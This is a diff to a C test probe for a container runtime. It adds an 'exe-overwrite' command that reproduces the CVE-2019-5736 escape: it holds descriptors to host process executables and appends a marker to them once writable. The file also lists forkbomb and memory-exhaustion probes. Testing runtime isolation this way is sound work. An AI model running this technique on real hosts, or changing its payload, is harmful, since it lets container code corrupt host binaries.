@@ -25,6 +25,13 @@
  *   hrun-probe exe-scan SECONDS NAME  for SECONDS, opens every other process's /proc/PID/exe for
  *                                   writing and tries PTRACE_ATTACH on those whose exe is named
  *                                   NAME or unreadable: scan.seen scan.opened scan.attached
+ *   hrun-probe exe-overwrite SECONDS  CVE-2019-5736 as an attacker with CAP_SYS_PTRACE does it:
+ *                                   until SECONDS pass or SIGTERM, keeps an O_PATH fd on the
+ *                                   exe of every process that is not a file of this container,
+ *                                   and reopens each for writing and appends to it (it succeeds
+ *                                   once the process exited): exe.target.N=<readlink> per file,
+ *                                   then exe.seen exe.opened exe.written exe.open_error
+ *                                   exe.write_error
  *
  * It is linked statically and uses only libc, so it runs in any rootfs. An errno without a
  * name in the table below is printed as its number.
@@ -637,6 +644,104 @@ static int cmd_exe_scan(const char *seconds_text, const char *runtime_name) {
 }
 
 
+/* ---- exe-overwrite: the CVE-2019-5736 attack, from inside a container ---- */
+
+static volatile sig_atomic_t overwrite_stop;
+static void on_overwrite_term(int sig) { (void)sig; overwrite_stop = 1; }
+
+static const char *errno_name(int err) {
+    for (size_t i = 0; i < COUNT(errno_names); ++i)
+        if (errno_names[i].value == err) return errno_names[i].name;
+    return "other";
+}
+
+struct held_exe {
+    int fd;
+    dev_t dev;
+    ino_t ino;
+    int written;
+};
+
+static int cmd_exe_overwrite(const char *seconds_text) {
+    long seconds;
+    if (parse_int(seconds_text, &seconds) != 0 || seconds < 1) return usage_error("bad seconds");
+    struct sigaction sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = on_overwrite_term;
+    sigemptyset(&sa.sa_mask);
+    if (sigaction(SIGTERM, &sa, NULL) != 0) return report("exe-overwrite", -1, errno);
+    struct held_exe held[64];
+    int nheld = 0;
+    long opened = 0, written = 0;
+    int open_error = 0, write_error = 0;
+    pid_t self = getpid();
+    struct timespec start, now;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    printf("ready\n");
+    fflush(stdout);
+    do {
+        DIR *d = opendir("/proc");
+        if (d == NULL) return report("exe-overwrite", -1, errno);
+        struct dirent *de;
+        while ((de = readdir(d)) != NULL) {
+            long pid;
+            if (parse_int(de->d_name, &pid) != 0 || pid == self) continue;
+            char link[64], target[4096];
+            snprintf(link, sizeof link, "/proc/%ld/exe", pid);
+            int fd = open(link, O_PATH | O_CLOEXEC);
+            if (fd < 0) continue; /* gone, a kernel thread, or not ours to read */
+            struct stat exe, here;
+            /* What the fd holds, not what the pid runs now (it may have exec'd since). */
+            char held_link[64];
+            snprintf(held_link, sizeof held_link, "/proc/self/fd/%d", fd);
+            ssize_t n = readlink(held_link, target, sizeof target - 1);
+            target[n > 0 ? n : 0] = '\0';
+            int known = fstat(fd, &exe) != 0;
+            /* A file of this container (busybox, this probe) is no runtime's. */
+            if (!known && n > 0 && stat(target, &here) == 0 && here.st_dev == exe.st_dev && here.st_ino == exe.st_ino)
+                known = 1;
+            for (int i = 0; !known && i < nheld; ++i)
+                known = held[i].dev == exe.st_dev && held[i].ino == exe.st_ino;
+            if (known || nheld == (int)COUNT(held)) {
+                close(fd);
+                continue;
+            }
+            held[nheld] = (struct held_exe){fd, exe.st_dev, exe.st_ino, 0};
+            printf("exe.target.%d=%s\n", nheld, target);
+            fflush(stdout);
+            ++nheld;
+        }
+        closedir(d);
+        /* Write access comes when the runtime's processes are gone (ETXTBSY before that). */
+        for (int i = 0; i < nheld; ++i) {
+            if (held[i].written) continue;
+            char path[64];
+            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
+            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+            if (w < 0) {
+                open_error = errno;
+                continue;
+            }
+            ++opened;
+            static const char mark[] = "\nwritten from inside a container\n";
+            if (write(w, mark, sizeof mark - 1) == (ssize_t)(sizeof mark - 1)) {
+                held[i].written = 1;
+                ++written;
+                printf("exe.written.%d=yes\n", i);
+                fflush(stdout);
+            } else {
+                write_error = errno;
+            }
+            close(w);
+        }
+        clock_gettime(CLOCK_MONOTONIC, &now);
+    } while (!overwrite_stop && now.tv_sec - start.tv_sec < seconds);
+    printf("exe.seen=%d\nexe.opened=%ld\nexe.written=%ld\n", nheld, opened, written);
+    printf("exe.open_error=%s\nexe.write_error=%s\n", open_error ? errno_name(open_error) : "none",
+           write_error ? errno_name(write_error) : "none");
+    return 0;
+}
+
 /* ---- workload: what an ordinary service does, each step reported on its own ---- */
 
 static int work_failures;
@@ -815,7 +920,8 @@ static int usage(void) {
     fprintf(stderr,
             "usage: hrun-probe [write PATH [DATA] | read PATH | syscall NAME | exit N |\n"
             "                   signal-self SIG | sleep SECONDS | trap-term CODE | fds | stat PATH |\n"
-            "                   forkbomb MAX | membomb MIB | workload | exe-scan SECONDS NAME]\n");
+            "                   forkbomb MAX | membomb MIB | workload | exe-scan SECONDS NAME |\n"
+            "                   exe-overwrite SECONDS]\n");
     return 2;
 }
 
@@ -852,6 +958,8 @@ int main(int argc, char **argv) {
         rc = cmd_workload();
     } else if (strcmp(argv[1], "exe-scan") == 0 && argc == 4) {
         rc = cmd_exe_scan(argv[2], argv[3]);
+    } else if (strcmp(argv[1], "exe-overwrite") == 0 && argc == 3) {
+        rc = cmd_exe_overwrite(argv[2]);
     } else {
         return usage();
     }
